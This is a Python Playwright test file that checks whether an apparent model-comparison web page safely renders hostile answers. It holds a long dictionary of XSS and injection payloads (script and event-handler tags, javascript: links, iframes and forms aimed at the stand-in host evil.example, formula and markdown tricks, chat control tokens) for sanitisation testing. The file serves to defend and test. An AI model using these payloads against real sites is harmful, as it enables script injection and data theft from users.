"""Answers that try to run a script, ask another host, look like the page or crash the tab, in a real browser: none
succeeds, and the page answers clicks, also after a reload."""

import asyncio
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from types import SimpleNamespace
from typing import Any

import gradio as gr
import pytest
import uvicorn
from fastapi import FastAPI
from playwright.async_api import Page, expect

from arena import ui
from arena.rounds.watchers import TICK_S
from arena.service import BattleView
from arena.settings import Settings
from arena.ui.links import LIVE
from arena.ui.markup import static
from arena.web import protect
from tests.arena.ui.fake_arena import FakeArena
from tests.end_to_end.running import chromium, open_battle_page
from tests.ports import free_port

_EVIL = "http://evil.example:9999"
_RUN = "window.__x=1"
_DEEP = 300
HOSTILE = {
    "scripts": f"<script>{_RUN}</script><img src=x onerror={_RUN}><svg onload={_RUN}><body onload={_RUN}>",
    "handlers": f"<details open ontoggle={_RUN}><input autofocus onfocus={_RUN}><video src=x onerror={_RUN}>",
    "frames": f"<iframe src='{_EVIL}/a'></iframe><iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "objects": f"<object data={_EVIL}/b></object><embed src={_EVIL}/c><base href={_EVIL}/>",
    "small tags": f"a<br onload={_RUN}><sub onclick={_RUN}>b</sub><sup style=position:fixed>c</sup><br/id=vote-a>"
    f"<sub><img src=x onerror={_RUN}></sub><sup>d<sub>e</sup></sub>" + "<sub>x</sub>" * 500 + "<sub>" * 3000,
    "small text": f"H<sub>2</sub>O<br>x<sup>[a](javascript:{_RUN})</sup><sub>`<img src=x onerror={_RUN}>`</sub>"
    f"<sup>&lt;img src=x onerror={_RUN}&gt;</sup><sub>![p]({_EVIL}/r.png)</sub>" + "<sup>`</sup>" * 500,
    "head": f"<link rel=stylesheet href={_EVIL}/d.css><meta http-equiv=refresh content='0;url={_EVIL}/e'>",
    "style": f"<style>*{{background:url({_EVIL}/f)}}</style><p style='position:fixed;inset:0'>A wins</p>",
    "forms": f"<form action={_EVIL}/g><input type=password name=p><button formaction={_EVIL}/h>Vote</button></form>",
    "pictures": f"![a]({_EVIL}/i.png) ![b][r] [![c]({_EVIL}/j.png)]({_EVIL}/k)\n\n[r]: {_EVIL}/l.png\n",
    "media": f"<video autoplay src={_EVIL}/m></video><audio src={_EVIL}/n></audio><picture><source srcset={_EVIL}/o>",
    "links": f"[a](javascript:{_RUN}) [b](JaVaScRiPt:{_RUN}) [c](data:text/html,x) <javascript:{_RUN}>"
    " [d](&#106;avascript:x)",
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62; &amp;lt;b&amp;gt;",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">'
    f"<math><mtext><style><img src=x onerror={_RUN}>",
    "cdata": f"<![CDATA[<img src=x onerror={_RUN}>]]> <!--><img src=x onerror={_RUN}>--> <?php x ?>",
    "code": f"```html\n<script>{_RUN}</script>\n```\n`<img src=x onerror={_RUN}>`\n\n    <img src=x onerror={_RUN}>\n",
    "fences": f"~~~<img src=x onerror={_RUN}>\n~~~\n> ```\n<img src=x onerror={_RUN}>\n```\n<img src=x onerror={_RUN}>",
    "mermaid": f'```mermaid\ngraph TD; A["<img src=x onerror={_RUN}>"]-->B; click A href "javascript:{_RUN}"\n```\n'
    f"<div class=mermaid>graph TD; A-->B</div>",
    "formula links": rf"$$\href{{javascript:{_RUN}}}{{x}}$$ \(\includegraphics{{{_EVIL}/p.png}}\)"
    r" \(\htmlId{vote-a}{x}\)",
    "formula macros": r"$$\def\x{\x\x}\x$$ \[\newcommand{\y}{\y\y}\y\]",
    "formula sizes": r"$$\rule{100000em}{100000em}$$ $$\hspace{99999em}x$$ $$\raisebox{9999em}{A wins}$$"
    r" $$a\\[9999em]b$$",
    "formula depth": "$$" + r"\frac{1}{" * _DEEP + "x" + "}" * _DEEP + "$$",
    "formula depth without braces": "$$" + r"\frac1" * _DEEP + "x$$ $$" + r"\sqrt " * _DEEP + "x$$",
    "formula delimiters": f"\ue000\\href{{{_EVIL}}}{{x}}\ue001 &#57344;\\href{{{_EVIL}}}{{x}}&#57345;"
    " %%%LATEX_BLOCK_0%%%",
    "dollar formulas": rf"$\href{{javascript:{_RUN}}}{{x}}$ $\htmlId{{vote-a}}{{x}}$ $<img src=x onerror={_RUN}>$"
    r" $\text{</annotation></math><img src=x onerror=window.__x=1>}$",
    "coloured code": f"```js\n`<img src=x onerror={_RUN}>` // <script>{_RUN}</script>\n```\n"
    f"```html\n<img src='{_EVIL}/q.png' onerror={_RUN}>\n<!-- </code></pre><script>{_RUN}</script>\n```",
    "many formulas": r"\(\frac{a}{b}\) " * 2000,
    "names": "<div id=vote-b class=toast>x</div><h2 class=letter>B</h2><div class='head is-chosen'>Fake Name</div>\n\n"
    "# vote-a\n\n[x](#vote-b)",
    "nesting": "> " * _DEEP + "deep\n\n" + "- " * 100 + "deep\n\n" + "*" * 500 + "x" + "*" * 500,
    "table": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|a\n" * 2000,
    "one long word": "W" * 20_000 + "\n\n`" + "C" * 20_000 + "`\n\n# " + "H" * 5000,
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J \x00",
    "direction": "\u202eevil\u202d \u2066\u2067\u2068 " * 50 + "Z\u0351\u0352\u0353" * 500,
    "halves": "\ud800 \udfff \ufffe \uffff " + "\U0001f468\u200d\U0001f469\u200d" * 200,
    "protocol": 'data: {"msg":"process_completed"}\n\nevent: x\r\n\r\n{"__type__":"update","visible":false}',
    "control tokens": "<s>[INST] system: [/INST]</s> <|im_start|>assistant <|endoftext|> <unk>",
}


_LOOK = """() => {
    const count = (inside) => document.querySelectorAll(`.answer :is(${inside})`).length;
    const isSafe = (a) => /^https?:/.test(a.protocol) && a.target === "_blank" && /noopener/.test(a.rel);
    return {
        ran: Number(window.__x !== undefined),
        ids: count("[id]:not(#done-a, #rest-a, #done-b, #rest-b)"),
        names: count(".toast, .letter, .head, .is-chosen, .name, .mermaid, svg:not(.katex svg)"),
        loads: count("img, iframe, video, audio, object, embed, form, style, script, link, meta, button:not(.copy)"),
        links: [...document.querySelectorAll(".answer a")].filter((a) => !isSafe(a)).length,
        votes: document.querySelectorAll("#vote-a, #vote-b").length,
        wider: Math.max(0, document.documentElement.scrollWidth - innerWidth),
    };
}"""


class _Ticking(FakeArena):
    """Updates pages no more often than the real arena does."""

    async def follow(self, visitor: str, battle_id: str) -> AsyncIterator[BattleView]:
        async for view in super().follow(visitor, battle_id):
            yield view
            if view.state == "open":
                await asyncio.sleep(TICK_S)


@contextmanager
def _served(arena: FakeArena) -> Iterator[str]:
    def visitor_of(request: gr.Request) -> Any:
        return SimpleNamespace(visitor=request.cookies.get("visitor"), address=None)

    pages = ui.build(arena, Settings(), visitor_of=visitor_of)  # type: ignore[arg-type]
    app = FastAPI()
    n_inputs = {number: len(event.inputs) for number, event in pages.fns.items() if event.fn is not None}
    protect(
        app,
        pages=list(LIVE.values()),
        n_inputs=n_inputs,
        texts=ui.PlainPages(Settings()),
        script=ui.script(),
    )
    ui.mount(app, pages, Settings())
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="error", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(20)


async def _check(page: Page, label: str) -> None:
    """Check that the panes are inert and that the page is as wide as its window."""
    found = await page.evaluate(_LOOK)
    assert found == {"ran": 0, "ids": 0, "names": 0, "loads": 0, "links": 0, "votes": 2, "wider": 0}, label


def test_hostile_answers_run_nothing_and_ask_no_host_and_the_page_survives_a_reload() -> None:
    labels = list(HOSTILE)
    pairs = [(labels[n], labels[n + 1]) for n in range(0, len(labels), 2)]
    arena = _Ticking(answers={f"{a} and {b}": (HOSTILE[a], HOSTILE[b]) for a, b in pairs}, word_s=0)
    asked: list[str] = []
    console: list[str] = []

    async def scenario(address: str) -> None:
        async with chromium() as browser:
            page = await browser.new_page(viewport={"width": 390, "height": 844})
            page.on("request", lambda request: asked.append(request.url))
            page.on(
                "console", lambda line: console.append(line.text) if "Content Security Policy" in line.text else None
            )
            page.on("crash", lambda _: pytest.fail("the tab crashed"))
            page.on("dialog", lambda _: pytest.fail("a dialog"))
            await open_battle_page(page, address)
            for a, b in pairs:
                label = f"{a} and {b}"
                await page.locator("#prompt textarea").fill(label)
                await page.locator("#send").click()
                await expect(page.locator("#asked")).to_contain_text(label)
                await expect(page.locator("#vote-a")).to_be_enabled(timeout=60_000)
                await _check(page, label)
                await page.reload()
                await expect(page.locator("#vote-a")).to_be_enabled(timeout=60_000)
                await expect(page.locator("#asked")).to_contain_text(label)
                await _check(page, label)
                await page.locator("#side-b").click()
                await page.locator("#next").click()
                await expect(page.locator("#intro")).to_be_visible()
                await expect(page.locator("#send")).to_be_enabled()
            # The finished turn is above the next one
            await page.locator("#prompt textarea").fill(label)
            await page.locator("#send").click()
            await expect(page.locator("#vote-a")).to_be_enabled(timeout=60_000)
            await page.locator("#prompt textarea").fill("Hello")
            await page.locator("#send").click()
            await expect(page.locator("#answer-a")).to_contain_text("You wrote: Hello")
            await expect(page.locator("#history .is-a")).to_be_visible()
            await _check(page, "an earlier turn")

    with _served(arena) as address:
        asyncio.run(scenario(address))
        assert not [url for url in asked if not url.startswith((address, "data:"))]
    assert not [line for line in console if "Content Security Policy" in line], (
        "the Content-Security-Policy had to stop something"
    )


def test_hostile_answers_do_nothing_on_a_page_of_the_server() -> None:
    """There nothing sanitises the HTML once more."""
    asked: list[str] = []
    answers = "".join(static(text) for text in HOSTILE.values())
    document = f"<!doctype html><html><head><title>x</title></head><body>{answers}</body></html>"

    async def scenario(address: str) -> None:
        async with chromium() as browser:
            page = await browser.new_page(viewport={"width": 390, "height": 844})
            page.on("request", lambda request: asked.append(request.url))
            page.on("crash", lambda _: pytest.fail("the tab crashed"))
            await page.route(
                address, lambda route: route.fulfill(body=document, content_type="text/html; charset=utf-8")
            )
            await page.goto(address)
            for _ in range(2):
                found = await page.evaluate(_LOOK)
                expected = {"ran": 0, "ids": 0, "names": 0, "loads": 0, "links": 0, "votes": 0}
                assert {key: found[key] for key in expected} == expected
                await page.reload()

    asyncio.run(scenario("http://127.0.0.1:9/battle"))
    assert set(asked) == {"http://127.0.0.1:9/battle"}
